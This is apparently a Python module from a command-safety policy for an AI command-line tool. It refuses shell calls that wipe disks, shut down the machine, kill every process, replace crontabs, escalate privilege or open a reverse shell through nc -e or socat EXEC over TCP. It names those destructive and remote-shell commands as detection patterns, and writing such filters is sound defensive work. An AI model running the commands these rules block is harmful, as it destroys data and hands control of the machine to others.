"""Calls that mean the whole machine: its disks, its power, its processes, its timetable, another person's rights."""

from collections.abc import Callable

from paicli.policy.shell.calls import Call
from paicli.policy.shell.verdicts import FETCHED_CODE, PRIVILEGE, Danger, refused

_DISK_TOOLS = frozenset(
    {"mke2fs", "mkswap", "wipefs", "blkdiscard", "fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "parted", "badblocks",
     "hdparm", "pvremove", "vgremove", "lvremove", "mdadm", "cryptsetup"}
)  # fmt: skip
_LOOKING = ("list", "version", "help", "print", "no-act", "detail", "examine", "scan")
_POOL_VERBS = frozenset({"destroy", "labelclear", "format", "sanitize", "rollback"})
_HDPARM_WRITERS = ("security-erase", "trim-sector", "write-sector", "repair-sector", "make-bad-sector", "dco-restore")
_MDADM_WRITERS = ("zero-superblock", "create", "stop", "fail", "remove")
_CRYPTSETUP_WRITERS = frozenset({"luksformat", "erase", "lukserase", "reencrypt", "lukskillslot", "luksremovekey"})
_POWER = frozenset({"shutdown", "reboot", "halt", "poweroff"})
_POWER_UNITS = _POWER | {"kexec", "emergency", "rescue", "suspend", "hibernate", "soft-reboot", "isolate", "exit"}
_POWER_WORDS = ("poweroff", "reboot", "shut down", "restart", "powerdown")
_EVERY_NAME = frozenset({"", ".", ".*", "^", ".+", "*", "^."})


def machine_danger_of(call: Call) -> Danger | None:
    """The first thing that is wrong with `call`, or None."""
    name = call.name
    if name in _POWER:
        return refused("shutdown")
    if name.startswith(("mkfs", "newfs")):
        return refused("disk")
    rule = _RULES.get(name)
    return rule(call) if rule is not None else None


def _disk_tool(call: Call) -> Danger | None:
    if call.has_option("lVn", *_LOOKING) and call.name not in {"hdparm", "mdadm"}:
        return None
    if call.name == "parted" and "print" in [word.text for word in call.operands()]:
        return None
    names = [call.target(word).path for word in call.operands()]
    is_device = any(path.startswith("/dev/") for path in names)
    match call.name:
        case "hdparm":
            is_writing = any(option[2:].startswith(_HDPARM_WRITERS) for option in call.options())
        case "mdadm":
            is_writing = any(option[2:].startswith(_MDADM_WRITERS) for option in call.options())
        case "cryptsetup":
            is_writing = any(word.text.lower() in _CRYPTSETUP_WRITERS for word in call.operands())
        case "pvremove" | "vgremove" | "lvremove":
            is_device = is_writing = True
        case _:
            is_writing = True
    return refused("disk") if is_device and is_writing else None


def _pool(call: Call) -> Danger | None:
    return refused("disk") if any(word.text in _POOL_VERBS for word in call.operands()[:1]) else None


def _diskutil(call: Call) -> Danger | None:
    verbs = [word.text.lower() for word in call.operands()[:1]]
    return refused("disk") if any(verb.startswith(("erase", "partition", "zero", "random")) for verb in verbs) else None


def _kill(call: Call) -> Danger | None:
    """`kill -9 -1` ends everything of the person; 1 is the first process."""
    words = [word.text for word in call.words[1:]]
    if words[:1] in (["-s"], ["-n"], ["--signal"]):
        words = words[2:]
    elif words and words[0].startswith("-") and words[0] != "--":
        words = words[1:]
    return refused("kill_all") if any(text in {"-1", "1"} for text in words if text != "--") else None


def _pkill(call: Call) -> Danger | None:
    """Everything of a person, or everything at all; `pkill -u me server` names what it means."""
    options = call.options()
    is_listing = any(option in {"-l", "-V", "-h", "--list", "--list-name", "-0"} for option in options)
    by_owner = call.has_option("uUgG", "user", "euid", "uid", "group")
    if is_listing:
        return None
    names = [word.text for word in call.operands()]
    if by_owner and not any(option.startswith("--") and "=" in option for option in options):
        names = names[1:]
    if call.name == "pkill" and any(name in _EVERY_NAME for name in names):
        return refused("kill_all")
    return refused("kill_all") if by_owner and not names else None


def _crontab(call: Call) -> Danger | None:
    """Only `-l` looks; without it a file or the input replaces the timetable."""
    is_looking = call.has_option("lVh", "version", "help") and not call.has_option("re")
    return None if is_looking else refused("crontab")


def _init(call: Call) -> Danger | None:
    return refused("shutdown") if any(word.text in {"0", "6"} for word in call.operands()) else None


def _systemctl(call: Call) -> Danger | None:
    operands = [word.text for word in call.operands()]
    is_target = any(text.removesuffix(".target") in _POWER_UNITS for text in operands[1:] if text.endswith(".target"))
    starts = operands[:1] in (["start"], ["isolate"])
    return refused("shutdown") if (operands and operands[0] in _POWER_UNITS) or (starts and is_target) else None


def _kexec(call: Call) -> Danger | None:
    return refused("shutdown") if call.has_option("e", "exec") else None


def _bus(call: Call) -> Danger | None:
    said = " ".join(word.text for word in call.words[1:]).lower()
    return refused("shutdown") if any(word in said for word in _POWER_WORDS) else None


def _osascript(call: Call) -> Danger | None:
    said = " ".join(word.text for word in call.words[1:]).lower()
    is_privileged = "with administrator privileges" in said
    if is_privileged:
        return PRIVILEGE
    return refused("shutdown") if "system events" in said and any(word in said for word in _POWER_WORDS) else None


def _machinectl(call: Call) -> Danger | None:
    return PRIVILEGE if any(word.text in {"shell", "login"} for word in call.operands()[:1]) else None


def _setpriv(call: Call) -> Danger | None:
    return PRIVILEGE if call.has_option("", "reuid", "regid", "ruid", "euid") else None


def _everything(call: Call) -> Danger | None:
    return refused("kill_all")


def _shell_over_the_net(call: Call) -> Danger | None:
    """`nc -e sh HOST PORT`, `socat TCP:… EXEC:sh`: whoever is at the other end types the commands."""
    if call.name == "socat":
        kinds = {word.text.split(":", 1)[0].upper() for word in call.operands()}
        runs = any(kind in {"EXEC", "SYSTEM", "SHELL"} for kind in kinds)
        is_net = any(kind.startswith(("TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY")) for kind in kinds)
        return FETCHED_CODE if runs and is_net else None
    return FETCHED_CODE if call.has_option("e", "exec", "sh-exec", "lua-exec") else None


_RULES: dict[str, Callable[[Call], Danger | None]] = {
    **dict.fromkeys(("nc", "ncat", "netcat", "socat"), _shell_over_the_net),
    **dict.fromkeys(_DISK_TOOLS, _disk_tool),
    **dict.fromkeys(("zpool", "zfs", "nvme"), _pool),
    **dict.fromkeys(("pkill", "killall", "skill"), _pkill),
    **dict.fromkeys(("busctl", "dbus-send", "gdbus", "qdbus"), _bus),
    **dict.fromkeys(("init", "telinit"), _init),
    **dict.fromkeys(("systemctl", "loginctl"), _systemctl),
    "diskutil": _diskutil,
    "kill": _kill,
    "killall5": _everything,
    "crontab": _crontab,
    "kexec": _kexec,
    "osascript": _osascript,
    "machinectl": _machinectl,
    "setpriv": _setpriv,
}
